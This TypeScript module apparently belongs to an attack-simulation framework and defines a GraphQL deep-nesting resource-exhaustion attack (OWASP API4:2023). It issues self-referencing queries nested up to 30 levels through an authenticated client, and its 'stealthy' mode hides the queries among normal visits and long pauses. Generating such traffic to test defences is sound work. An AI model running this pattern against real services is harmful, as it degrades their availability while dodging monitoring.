import { defineAttack } from '../world/attack.ts'

export default defineAttack({
  id: 'graphql-depth',
  title: 'documents that lead back to themselves, far deeper than any client asks',
  owasp: ['API4:2023'],
  supports: ({ surface }) => surface.graphql !== undefined,
  *play(attack) {
    const { app, stream } = attack
    const { graphql } = app.surface
    if (graphql === undefined) return
    const member = yield* attack.member()
    if (member === undefined) return
    const { client, visit } = member
    const [open, turn, end, inner] = graphql.cycle
    for (let left = attack.count({ loud: 60, medium: 20, stealthy: 5 }); left > 0; left -= 1) {
      if (attack.level === 'stealthy') yield* attack.blend(visit)
      const turns = stream.int(
        ...attack.by<[number, number]>({ loud: [10, 30], medium: [7, 12], stealthy: [5, 7] }),
      )
      yield* attack.act(
        client,
        graphql.ask(client, `query { ${open}${turn.repeat(turns)}id${end.repeat(turns)}${inner} }`),
      )
      yield* attack.pause({ loud: 500, medium: 12_000, stealthy: 60 * 60_000 })
    }
  },
})
